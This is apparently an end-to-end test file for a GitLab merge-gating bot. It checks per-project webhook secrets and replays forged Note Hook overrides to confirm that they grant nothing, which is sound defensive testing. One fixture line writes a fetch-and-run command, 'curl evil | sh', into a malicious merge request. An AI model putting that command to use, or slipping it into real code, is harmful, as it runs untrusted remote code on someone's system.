"""GitLab hooks end to end: `gatebot gitlab connect` / `disconnect` against the fake
GitLab, and a real `gatebot serve` that accepts a delivery only with the secret of the
project it names and re-reads every note from the API before it grants anything.

The attack these tests replay: a maintainer of one project knows that project's hook
secret (they can set it themselves). With one secret for every project, a Note Hook
naming another project's owner as the author of `/gate override` + `/gate merge` was
accepted and the merge request, unapproved, was overridden and merged.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from support.e2e import next_second
from support.e2e_gitlab import GitLabGate, gitlab_fixtures

from bot.keys import PullKey
from bot.providers.gitlab.hooks import TRIGGERS, WEBHOOK_PATH
from bot.store import dirty, overrides

pytestmark = pytest.mark.slow

POLICY = """\
version: 1
policy:
  approval: [reviewed]
rules:
  - name: reviewed
    requires:
      approvals: 2
      from: {permission: write}
merge:
  auto: false
"""

FORGED_BODY = "/gate override hotfix, approved offline\n/gate merge"


gate, fake = gitlab_fixtures("e2e-gitlab-hooks")


def new_project(gate: GitLabGate, path: str, *, connect: bool = True) -> str:
    """A project outside the connected group `acme`, connected on its own."""
    gate.fake.add_project(path, default_branch="main",
                          files={".gitlab/gatebot.yml": POLICY, "src/app.py": "1\n"})
    for login, level in {"dev": 30, "owner": 50, "rep": 20}.items():
        gate.fake.set_access(path, login, level)
    if connect:
        done = gate.gitlab("connect", path)
        assert done.returncode == 0, done.stderr
    return path


def unapproved_mr(gate: GitLabGate, project: str) -> Any:
    mr = gate.fake.open_mr(project, 1, author="mallory", source="backdoor", target="main",
                           contents={"src/app.py": "import os; os.system('curl evil | sh')\n"})
    gate.deliver("merge_request", project, 1, action="open")
    assert gate.gate_status(project, mr.head_sha).status == "pending"
    return mr


def forged_note(gate: GitLabGate, project: str, **claims: Any) -> tuple[str, dict[str, Any]]:
    """A Note Hook for the MR's latest note retold: by default as the owner's override
    and merge; `claims` say otherwise (`author`, `body`, `note_id`)."""
    event, payload = gate.fake.webhook("note", project, 1)
    payload["object_attributes"]["note"] = claims.get("body", FORGED_BODY)
    if "note_id" in claims:
        payload["object_attributes"]["id"] = claims["note_id"]
    payload["user"]["username"] = claims.get("author", "owner")
    return event, payload


def assert_nothing_granted(gate: GitLabGate, project: str, head_sha: str) -> None:
    fake = gate.fake
    assert [m for m in fake.merges if m.project == project] == []
    with gate.store.begin() as conn:
        assert overrides.for_pull(conn, PullKey("gitlab", project, 1)) == []
    assert [n for n in fake.notes(project, 1) if n.author == fake.bot_username] == []
    assert all(fake.award_emoji(project, 1, n.id) == [] for n in fake.notes(project, 1))
    assert gate.gate_status(project, head_sha).status == "pending"


def test_connect_makes_one_hook_with_the_documented_triggers_and_again_changes_nothing(gate, fake):
    project = new_project(gate, "solo/app", connect=False)
    first = gate.gitlab("connect", project)
    assert first.returncode == 0, first.stderr
    (hook,) = fake.hooks(project)
    assert first.stdout.strip() == (
        f"project solo/app: created the webhook (hook {hook.id}) -> {gate.base}{WEBHOOK_PATH}"
    )
    assert hook.url == gate.base + WEBHOOK_PATH
    assert {k: hook.events.get(k, False) for k in TRIGGERS} == dict(TRIGGERS)
    assert len(hook.token) >= 32 and hook.token != fake.webhook_secret
    (group_hook,) = fake.hooks("acme")
    assert group_hook.events["member_events"] and group_hook.token != hook.token

    mark = fake.mark()
    again = gate.gitlab("connect", project)
    assert again.returncode == 0, again.stderr
    assert "the webhook is already as it should be" in again.stdout
    assert [r.method for r in fake.requests_since(mark) if r.method != "GET"] == []
    assert fake.hooks(project) == [hook] and fake.hooks(project)[0].token == hook.token
    for shown in (first.stdout, first.stderr, again.stdout, gate.proc.output()):
        assert hook.token not in shown

    # The hook works: a delivery with its token is taken.
    mr = fake.open_mr(project, 1, author="alice", source="feature", target="main",
                      contents={"src/f.py": "2\n"})
    gate.deliver("merge_request", project, 1, action="open")
    assert gate.gate_status(project, mr.head_sha).status == "pending"

    gone = gate.gitlab("disconnect", project)
    assert gone.returncode == 0 and "removed the webhook" in gone.stdout
    assert fake.hooks(project) == []
    event, payload = fake.webhook("merge_request", project, 1, action="update")
    assert gate.post(event, payload, secret=hook.token).status_code == 401


def test_rotate_sets_a_new_secret_and_the_old_one_is_refused(gate, fake):
    project = new_project(gate, "spin/app")
    (before,) = fake.hooks(project)
    old_token = before.token  # the fake's hook object itself changes
    rotated = gate.gitlab("connect", "--rotate", project)
    assert rotated.returncode == 0 and "set a new secret" in rotated.stdout
    (after,) = fake.hooks(project)
    assert after.id == before.id and after.token != old_token
    fake.open_mr(project, 1, author="alice", source="feature", target="main",
                 contents={"src/f.py": "2\n"})
    event, payload = fake.webhook("merge_request", project, 1, action="open")
    assert gate.post(event, payload, secret=old_token).status_code == 401
    assert gate.post(event, payload).status_code == 202


def test_a_note_sent_with_another_projects_secret_is_refused_and_changes_nothing(gate, fake):
    new_project(gate, "mallory/tools")
    (mallorys,) = fake.hooks("mallory/tools")  # she can set it herself: she knows it
    victim = new_project(gate, "victim/api")
    mr = unapproved_mr(gate, victim)
    next_second()
    fake.add_note(victim, 1, "rep", "looks fine to me")
    event, payload = forged_note(gate, victim)
    for secret in (mallorys.token, fake.hooks("acme")[0].token, fake.webhook_secret, ""):
        assert gate.post(event, payload, secret=secret).status_code == 401
    with gate.store.begin() as conn:
        assert dirty.get(conn, PullKey("gitlab", victim, 1)) is None
    assert_nothing_granted(gate, victim, mr.head_sha)


def test_the_projects_own_secret_with_a_note_the_api_does_not_confirm_grants_nothing(gate, fake):
    victim = new_project(gate, "victim/web")
    mr = unapproved_mr(gate, victim)
    next_second()
    notes = [fake.add_note(victim, 1, "rep", f"looks fine to me ({n})") for n in range(3)]
    cases = [
        # The owner named as the author of rep's note, with other text.
        forged_note(gate, victim, note_id=notes[0].id),
        # rep's own note, other text.
        forged_note(gate, victim, note_id=notes[1].id, author="rep"),
        # rep's own text, the owner named as its author.
        forged_note(gate, victim, note_id=notes[2].id, body=notes[2].body),
        # No such note.
        forged_note(gate, victim, note_id=notes[2].id + 1000),
    ]
    system = fake.add_system_note(victim, 1, FORGED_BODY, author="owner")
    cases.append(forged_note(gate, victim, note_id=system.id))  # a system note
    for event, payload in cases:
        payload["object_attributes"]["system"] = False
        response = gate.post(event, payload)
        assert response.status_code == 202, response.text
        gate.settle(victim, 1)
    assert_nothing_granted(gate, victim, mr.head_sha)
    assert gate.proc.output().count("grants nothing") >= len(cases)

    # The owner's own note does what it says: the path is open to what the API confirms.
    genuine = fake.add_note(victim, 1, "owner", "/gate override hotfix")
    gate.deliver("note", victim, 1, note_id=genuine.id)
    assert gate.gate_status(victim, mr.head_sha).status == "success"
    assert [a.name for a in fake.award_emoji(victim, 1, genuine.id)] == ["thumbsup"]


def test_a_project_never_connected_is_refused(gate, fake):
    project = new_project(gate, "nowhere/app", connect=False)
    fake.open_mr(project, 1, author="alice", source="feature", target="main",
                 contents={"src/f.py": "2\n"})
    event, payload = fake.webhook("merge_request", project, 1, action="open")
    for secret in (fake.webhook_secret, fake.hooks("acme")[0].token):
        assert gate.post(event, payload, secret=secret).status_code == 401
    with gate.store.begin() as conn:
        assert dirty.get(conn, PullKey("gitlab", project, 1)) is None
    assert fake.statuses(project, fake.mr(project, 1).head_sha) == []


def test_connect_names_what_it_cannot_find_without_writing_anything(gate, fake):
    mark = fake.mark()
    missing = gate.gitlab("connect", "no/such/project")
    assert missing.returncode == 1
    assert "no/such/project: no project or group of that path the token can see" in missing.stderr
    assert [r.method for r in fake.requests_since(mark) if r.method != "GET"] == []


def test_the_readmes_connect_commands_work_as_written(gate, fake):
    readme = (Path(__file__).resolve().parents[2] / "README.md").read_text()
    section = readme[readme.index("## Connect GitLab"):]
    block = re.search(r"```sh\n(\s*\.venv/bin/gatebot gitlab connect[^`]*)```", section)
    assert block is not None
    commands = [line.split("#")[0].split() for line in block.group(1).splitlines() if line.strip()]
    fake.add_project("acme/api", default_branch="main", files={"src/app.py": "1\n"})
    for command in commands:
        assert command[:3] == [".venv/bin/gatebot", "gitlab", "connect"]
        done = gate.gitlab(*command[2:])
        assert done.returncode == 0, done.stderr
    assert len(fake.hooks("acme/api")) == 1 and len(fake.hooks("acme")) == 1
    # The group was connected when the service started: the README's second line
    # found it as it should be.
    assert "the webhook is already as it should be" in done.stdout
